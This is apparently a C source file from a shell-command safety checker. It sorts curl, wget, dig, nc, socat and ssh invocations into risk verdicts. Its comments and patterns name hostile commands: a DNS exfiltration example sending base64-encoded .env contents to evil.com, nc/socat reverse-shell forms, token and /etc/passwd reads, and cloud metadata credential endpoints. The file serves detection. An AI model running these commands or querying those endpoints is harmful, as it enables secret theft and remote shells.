/* network.c - programs that talk to the network: curl and wget (option
 * table), ssh, scp, nc and friends. */
#include "core/shell/internal.h"
#include "core/shell/rules.h"
#include "core/shell/rules_common.h"

#include <string.h>
#include <strings.h>

/* K_CRED: sends a local credential (-u, -E, a cookie file): reads, but
 * never silently. */
enum { K_OK, K_HEAD, K_DATA, K_WRITE, K_METHOD, K_OTHER, K_CRED };

typedef struct {
    const char *name;
    char shortopt;
    int arg;
    int kind;
} netopt;

static const netopt curl_opts[] = {
    { "user-agent", 'A', 1, K_OK }, { "cookie", 'b', 1, K_CRED }, { "cookie-jar", 'c', 1, K_WRITE },
    { "continue-at", 'C', 1, K_OK }, { "data", 'd', 1, K_DATA }, { "dump-header", 'D', 1, K_WRITE },
    { "referer", 'e', 1, K_OK }, { "cert", 'E', 1, K_CRED }, { "form", 'F', 1, K_DATA },
    { "fail", 'f', 0, K_OK }, { "get", 'G', 0, K_OK }, { "header", 'H', 1, K_OK },
    { "head", 'I', 0, K_HEAD }, { "include", 'i', 0, K_OK }, { "insecure", 'k', 0, K_OK },
    { "config", 'K', 1, K_OTHER }, { "location", 'L', 0, K_OK }, { "max-time", 'm', 1, K_OK },
    { "output", 'o', 1, K_WRITE }, { "remote-name", 'O', 0, K_WRITE }, { "range", 'r', 1, K_OK },
    { "silent", 's', 0, K_OK }, { "show-error", 'S', 0, K_OK }, { "upload-file", 'T', 1, K_DATA },
    { "user", 'u', 1, K_CRED }, { "verbose", 'v', 0, K_OK }, { "write-out", 'w', 1, K_OK },
    { "proxy", 'x', 1, K_OK }, { "request", 'X', 1, K_METHOD }, { "ipv4", '4', 0, K_OK },
    { "ipv6", '6', 0, K_OK }, { "no-buffer", 'N', 0, K_OK }, { "quote", 'Q', 1, K_OTHER },
    { "data-ascii", 0, 1, K_DATA }, { "data-binary", 0, 1, K_DATA }, { "data-raw", 0, 1, K_DATA },
    { "data-urlencode", 0, 1, K_DATA }, { "form-string", 0, 1, K_DATA }, { "json", 0, 1, K_DATA },
    { "compressed", 0, 0, K_OK }, { "connect-timeout", 0, 1, K_OK }, { "retry", 0, 1, K_OK },
    { "no-progress-meter", 0, 0, K_OK }, { "http1.1", 0, 0, K_OK }, { "http2", 0, 0, K_OK },
    { "remote-name-all", 0, 0, K_WRITE }, { "output-dir", 0, 1, K_WRITE }, { "trace", 0, 1, K_WRITE },
    { "trace-ascii", 0, 1, K_WRITE }, { "stderr", 0, 1, K_WRITE }, { "url", 0, 1, K_OK },
    { "max-filesize", 0, 1, K_OK }, { "limit-rate", 0, 1, K_OK }, { "resolve", 0, 1, K_OK },
    { "location-trusted", 0, 0, K_OK }, { "progress-bar", '#', 0, K_OK },
    { "upload", 0, 0, K_DATA }, { "post301", 0, 0, K_OK }, { "fail-with-body", 0, 0, K_OK },
    { "max-redirs", 0, 1, K_OK }, { "retry-delay", 0, 1, K_OK }, { "retry-max-time", 0, 1, K_OK },
    { "silent-fail", 0, 0, K_OK }, { "ssl-no-revoke", 0, 0, K_OK }, { "tlsv1.2", 0, 0, K_OK },
    { "netrc", 'n', 0, K_CRED }, { "netrc-file", 0, 1, K_CRED }, { "key", 0, 1, K_CRED },
    { "oauth2-bearer", 0, 1, K_CRED },
    { "spider", 0, 0, K_HEAD }, { "post-data", 0, 1, K_DATA }, { "post-file", 0, 1, K_DATA },
    { "body-data", 0, 1, K_DATA }, { "body-file", 0, 1, K_DATA }, { "method", 0, 1, K_METHOD },
    { "output-document", 'O', 1, K_WRITE }, { "quiet", 'q', 0, K_OK }, { "execute", 0, 1, K_OTHER },
};

/* Cloud instance metadata endpoints: a GET there returns the machine's
 * credentials. Compared with each URL's host (one pass over the word). */
static int metadata_host(const sh_view *v)
{
#define H(s) { s, sizeof s - 1 }
    static const struct { const char *name; size_t len; } hosts[] = {
        H("169.254.169.254"), H("metadata.google.internal"), H("100.100.100.200"),
        H("[fd00:ec2::254]"), H("169.254.170.2"), H("metadata.azure.com"), H("instance-data"),
        H("metadata"),
    };
#undef H
    for (int j = v->i + 1; j < v->end; j++) {
        const char *t = W(j);
        if (t[0] == '-')
            continue;
        const char *sch = strstr(t, "://");
        const char *h = sch ? sch + 3 : t;
        const char *at = h;
        size_t k = 0;
        while (at[k] && at[k] != '/' && at[k] != '?' && at[k] != '#')
            k++;
        const char *user = memchr(at, '@', k);
        if (user) {
            k -= (size_t)(user + 1 - at);
            at = user + 1;
        }
        size_t hl = k;
        if (hl > 0 && at[0] != '[' && memchr(at, ':', hl))
            hl = (size_t)((const char *)memchr(at, ':', hl) - at);   /* the port */
        for (size_t i = 0; i < sizeof hosts / sizeof *hosts; i++)
            if (hosts[i].len == hl && strncasecmp(at, hosts[i].name, hl) == 0)
                return 1;
    }
    return 0;
}

/* wget whose every option is one of those that only read and print to
 * stdout: -q, -O - (or -O-, --output-document=-), -S, -nv, -v, -4/-6, -T/-t N,
 * -U AGENT, --header (not @file), --max-redirect, --no-check-certificate.
 * Anything else (-i FILE, -e CMD, -P, -r, --post-*, ...) is not plain. */
static int wget_plain(const sh_view *v)
{
    static const char *const flags[] = {
        "--quiet", "--server-response", "--no-verbose", "--verbose", "--no-check-certificate",
        "--inet4-only", "--inet6-only", "--spider", "-nv", "-4", "-6", "-q", "-S", "-v", NULL,
    };
    static const char *const with_arg[] = {
        "--timeout", "--tries", "--user-agent", "--header", "--max-redirect", "--wait",
        "--read-timeout", "--connect-timeout", "--dns-timeout", NULL,
    };
    int out = 0;
    for (int j = v->i + 1; j < v->end; j++) {
        const char *t = W(j);
        if (t[0] != '-' || !t[1])
            continue;
        if (in_set(t, flags))
            continue;
        if (strcmp(t, "-O-") == 0 || strcmp(t, "-qO-") == 0 || strcmp(t, "--output-document=-") == 0 ||
            ((strcmp(t, "-O") == 0 || strcmp(t, "-qO") == 0 || strcmp(t, "--output-document") == 0) &&
             j + 1 < v->end && strcmp(W(j + 1), "-") == 0)) {
            j += t[strlen(t) - 1] != '-';
            out = 1;
            continue;
        }
        if ((t[1] == 'T' || t[1] == 't' || t[1] == 'U') && !t[2] && j + 1 < v->end) {
            j++;
            continue;
        }
        if ((t[1] == 'T' || t[1] == 't') && t[2] >= '0' && t[2] <= '9')
            continue;
        int ok = 0;
        for (const char *const *a = with_arg; *a && !ok; a++) {
            size_t k = strlen(*a);
            if (strncmp(t, *a, k) == 0 && (t[k] == '=' || t[k] == '\0')) {
                const char *val = t[k] == '=' ? t + k + 1 : (j + 1 < v->end ? W(++j) : "");
                ok = val[0] != '@';
            }
        }
        if (!ok)
            return 0;
    }
    return out;
}

void sh_rule_net_fetch(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    int wget = strcmp(p->name, "wget") == 0;
    int head = 0, data = 0, write = !wget ? 0 : 1, other = 0, method_write = 0, opaque = 0, cred = 0;
    int method_delete = 0;
    const char *data_opt = NULL, *scheme = NULL;
    if (sh_version_query(v))
        return;
    for (int j = v->i + 1; j < v->end; j++) {
        const char *t = W(j);
        if (FL(j) & SH_W_OPAQUE)
            opaque = 1;
        const char *colon = strstr(t, "://");
        if (colon && !(colon - t == 4 && strncasecmp(t, "http", 4) == 0) &&
            !(colon - t == 5 && strncasecmp(t, "https", 5) == 0) && t[0] != '-')
            scheme = t;
        if (t[0] != '-' || !t[1])
            continue;
        const netopt *o = NULL;
        const char *arg = NULL;
        if (t[1] == '-') {
            size_t len = strcspn(t + 2, "=");
            for (size_t k = 0; k < sizeof curl_opts / sizeof *curl_opts; k++)
                if (curl_opts[k].name[0] == t[2] && strncmp(curl_opts[k].name, t + 2, len) == 0 &&
                    curl_opts[k].name[len] == '\0')
                    o = &curl_opts[k];
            if (!o) {
                other = 1;
                continue;
            }
            arg = t[2 + len] == '=' ? t + 3 + len : NULL;
            if (o->arg && !arg && j + 1 < v->end)
                arg = W(++j);
            if (o->kind == K_DATA && !data_opt)
                data_opt = t;
        } else {
            for (int k = 1; t[k]; k++) {
                o = NULL;
                for (size_t m = 0; m < sizeof curl_opts / sizeof *curl_opts; m++)
                    if (curl_opts[m].shortopt == t[k] &&
                        (!wget || curl_opts[m].kind != K_DATA))
                        o = &curl_opts[m];
                if (wget && t[k] == 'O')
                    o = &curl_opts[sizeof curl_opts / sizeof *curl_opts - 3];
                if (wget && t[k] == 'S')
                    continue;
                if (!o) {
                    other = 1;
                    break;
                }
                if (o->kind == K_DATA && !data_opt)
                    data_opt = t;
                if (o->arg) {
                    arg = t[k + 1] ? t + k + 1 : (j + 1 < v->end ? W(j + 1) : NULL);
                    if (!t[k + 1])
                        j++;
                    break;
                }
                if (o->kind == K_HEAD) head = 1;
                else if (o->kind == K_WRITE) write = 1;
                else if (o->kind == K_OTHER) other = 1;
                else if (o->kind == K_CRED) cred = 1;
            }
            if (!o)
                continue;
        }
        if (arg && arg == W(j) && (FL(j) & (SH_W_CMDSUB | SH_W_PROCSUB)) && !data_opt) {
            data = 1;                   /* -H "Authorization: $(cat token)": a command's output sent */
            data_opt = t;
        }
        if (arg && !scheme) {
            const char *sep = strstr(arg, "://");   /* --url file:///etc/passwd */
            if (sep && sep > arg && !(sep - arg == 4 && strncasecmp(arg, "http", 4) == 0) &&
                !(sep - arg == 5 && strncasecmp(arg, "https", 5) == 0) && strspn(arg, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ+.-") == (size_t)(sep - arg))
                scheme = arg;
        }
        if (arg && arg[0] == '@' && o->kind != K_DATA && o->kind != K_CRED) {
            data = 1;                   /* -H @file, -w @file: a local file's text */
            data_opt = t;
        }
        switch (o->kind) {
        case K_HEAD: head = 1; if (wget) write = 0; break;
        case K_CRED:
            cred |= !(o->shortopt == 'b' && arg && strchr(arg, '=') && arg[0] != '@');
            break;
        case K_DATA: data = 1; break;
        case K_WRITE:
            write = !(arg && (strcmp(arg, "-") == 0 || strcmp(arg, "/dev/null") == 0));
            if (arg && sh_is_raw_disk(arg, strlen(arg))) {
                sh_verdict(cx, WG_SHELL_CRITICAL, "critical.raw_disk_write", p->name,
                           " downloads onto the raw disk ", arg, v->via);
                return;
            }
            if (arg && sh_check_persist_write(cx, v, arg, strlen(arg), p->name))
                return;
            if (arg && write)
                sh_file_written(cx, arg, strlen(arg), NULL, -1);
            break;
        case K_METHOD:
            if (arg && strcasecmp(arg, "GET") != 0 && strcasecmp(arg, "HEAD") != 0)
                method_write = 1;
            if (arg && strcasecmp(arg, "DELETE") == 0)
                method_delete = 1;
            break;
        case K_OTHER: other = 1; break;
        default: break;
        }
    }
    for (int j = v->i + 1; method_delete && j < v->end; j++)
        if (W(j)[0] != '-' && sh_forge_repo_url(W(j))) {
            sh_verdict(cx, WG_SHELL_CRITICAL, "critical.repo_delete", p->name,
                       " -X DELETE deletes a repository through the code-hosting API", NULL, v->via);
            return;
        }
    if (scheme && !data) {
        sh_verdict(cx, WG_SHELL_DESTRUCTIVE, "bash.network_send", p->name,
                   " uses a URL scheme other than http(s) (file:, gopher:, dict:, ...): ", scheme, v->via);
        return;
    }
    if (data) {
        sh_verdict(cx, WG_SHELL_DESTRUCTIVE, "bash.exfiltration", p->name,
                   " sends local data to a server with ", data_opt ? data_opt : "an upload option", v->via);
        return;
    }
    if (opaque) {
        sh_verdict(cx, WG_SHELL_DESTRUCTIVE, "bash.exfiltration", p->name,
                   " sends a request built from an expansion it cannot see", NULL, v->via);
        return;
    }
    if (method_write) {
        sh_verdict(cx, WG_SHELL_DESTRUCTIVE, "bash.network_write", p->name,
                   " changes a remote resource (-X)", NULL, v->via);
        return;
    }
    int plain_wget = wget && wget_plain(v);
    if ((write || other) && !plain_wget) {
        sh_verdict(cx, WG_SHELL_RISKY, write ? "bash.writes_file" : "bash.unsafe_option", p->name,
                   write ? " downloads into a file" : " uses an option outside the read-only set",
                   NULL, v->via);
        return;
    }
    if (metadata_host(v)) {
        sh_verdict(cx, WG_SHELL_RISKY, "bash.reads_secret", p->name,
                   " reads the cloud metadata service (instance credentials)", NULL, v->via);
        return;
    }
    /* a plain GET printed to stdout reads, like cat: silent. Credentials
     * sent (-u, -E, a cookie file, .netrc) ask; wget only with the options
     * it is known to read with. */
    if (!head && (cred || (wget && !plain_wget)))
        sh_verdict(cx, WG_SHELL_RISKY, "bash.network", p->name,
                   " fetches from the network with credentials or options it does not read as plain",
                   NULL, v->via);
}

/* Query tools: ping, dig, host, nslookup, traceroute, mtr, whois, ... They
 * only read, so they run silently, unless what they send is built from an
 * expansion (`dig $(cat .env | base64).evil.com`: DNS exfiltration) or they
 * read their queries from a file or from stdin (`dig -f FILE`, `nslookup`
 * with no host, `nslookup -`). */
typedef struct {
    const char *prog;
    const char *file_opts;      /* short options that read a file of queries or a key */
    int host_needed;            /* with no operand it reads queries from stdin */
} net_query;

static const net_query net_queries[] = {
    { "arping", "f", 0 },   { "dig", "fk", 0 },      { "drill", "fk", 0 },
    { "fping", "f", 0 },    { "host", "", 0 },       { "mtr", "F", 0 },
    { "nping", "", 0 },     { "nslookup", "", 1 },   { "ping", "", 0 },
    { "ping6", "", 0 },     { "tracepath", "", 0 },  { "tracepath6", "", 0 },
    { "traceroute", "", 0 }, { "traceroute6", "", 0 }, { "whois", "", 0 },
};

void sh_rule_net_query(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    const net_query *q = NULL;
    for (size_t k = 0; k < sizeof net_queries / sizeof *net_queries && !q; k++)
        if (strcmp(net_queries[k].prog, p->name) == 0)
            q = &net_queries[k];
    if (!q)
        return;
    int operands = 0, from_stdin = 0;
    for (int j = v->i + 1; j < v->end; j++) {
        const char *t = W(j);
        if (FL(j) & SH_W_OPAQUE) {
            sh_verdict(cx, WG_SHELL_DESTRUCTIVE, "bash.exfiltration", p->name,
                       " sends a query built from an expansion it cannot see (DNS exfiltration)",
                       NULL, v->via);
            return;
        }
        if (t[0] == '-' && t[1] && t[1] != '-' && q->file_opts[0] && strchr(q->file_opts, t[1])) {
            sh_verdict(cx, WG_SHELL_RISKY, "bash.unsafe_option", p->name,
                       " reads its queries or a key from a file", NULL, v->via);
            return;
        }
        if (strcmp(t, "-") == 0)
            from_stdin = 1;
        else if (t[0] != '-' && t[0] != '+')
            operands++;
    }
    if (v->hidden_args || (q->host_needed && (operands == 0 || from_stdin))) {
        sh_verdict(cx, WG_SHELL_RISKY, "bash.network", p->name,
                   " reads its queries from input it cannot see", NULL, v->via);
    }
}

/* nc -z HOST PORT (and ncat/netcat): a port check that sends nothing; not
 * with -e/-c (a program on the connection) or input fed to it. */
static int port_check(const sh_view *v, const sh_program *p)
{
    if (strcmp(p->name, "nc") != 0 && strcmp(p->name, "ncat") != 0 && strcmp(p->name, "netcat") != 0)
        return 0;
    int zero = 0;
    for (int j = v->i + 1; j < v->end; j++) {
        const char *t = W(j);
        if (FL(j) & SH_W_OPAQUE)
            return 0;
        if (t[0] == '-' && t[1] != '-' && (strchr(t, 'e') || strchr(t, 'c')))
            return 0;
        if (strncmp(t, "--exec", 6) == 0 || strncmp(t, "--sh-exec", 9) == 0 || strncmp(t, "--lua-exec", 10) == 0)
            return 0;
        zero |= t[0] == '-' && t[1] != '-' && strchr(t, 'z') != NULL;
    }
    return zero && !v->c->piped_in && v->c->nr == 0;
}

void sh_rule_network(sh_ctx *cx, const sh_view *v, const sh_program *p)
{
    if (sh_version_query(v) || port_check(v, p))
        return;
    /* nc -e /bin/sh, ncat -c bash, socat TCP:h:p EXEC:/bin/bash: hands a
     * shell to whoever is at the other end (a reverse or bind shell) */
    int socat = strcmp(p->name, "socat") == 0;
    int netcat = !socat && p->name[0] == 'n';   /* nc, ncat, netcat */
    for (int j = v->i + 1; (netcat || socat) && j < v->end; j++) {
        const char *t = W(j);
        int exec_opt = netcat && t[0] == '-' &&
                       (strcmp(t, "-e") == 0 || strcmp(t, "-c") == 0 || strncmp(t, "--exec", 6) == 0 ||
                        strncmp(t, "--sh-exec", 9) == 0 || strncmp(t, "--lua-exec", 10) == 0);
        int socat_exec = socat && (strncasecmp(t, "EXEC:", 5) == 0 || strncasecmp(t, "SYSTEM:", 7) == 0);
        if (exec_opt || socat_exec) {
            sh_unseen(cx, v, p->name, " gives a program (a shell) to a network connection");
            return;
        }
    }
    sh_verdict(cx, WG_SHELL_DESTRUCTIVE, "bash.network_send", p->name,
               " opens a network connection that can send local data", NULL, v->via);
    /* ssh -o ProxyCommand='CMD', LocalCommand=CMD: CMD runs here, through sh */
    for (int j = v->i + 1; p->name[0] == 's' && j < v->end; j++) {  /* ssh, scp, sftp */
        const char *t = W(j);
        if (t[0] != '-' || t[1] != 'o')
            continue;
        if (!t[2] && j + 1 < v->end)
            t = W(++j);
        else
            t += 2;
        const char *eq = strpbrk(t, "= ");
        if (eq && ((eq - t == 12 && strncasecmp(t, "ProxyCommand", 12) == 0) ||
                   (eq - t == 12 && strncasecmp(t, "LocalCommand", 12) == 0) ||
                   (eq - t == 17 && strncasecmp(t, "KnownHostsCommand", 17) == 0))) {
            if (FL(j) & SH_W_OPAQUE)
                sh_unseen(cx, v, p->name, " runs a local command it cannot see (-o ProxyCommand)");
            else
                sh_run_script(cx, eq + 1, strlen(eq + 1), "in a command ssh runs here (-o ProxyCommand, LocalCommand)");
        }
    }
    /* ssh HOST 'CMD', ssh HOST sudo reboot: the remote command */
    sh_probe_args(cx, v, v->i + 1);
}

/* Disk tools whose named verbs or options wipe, format or re-partition. */
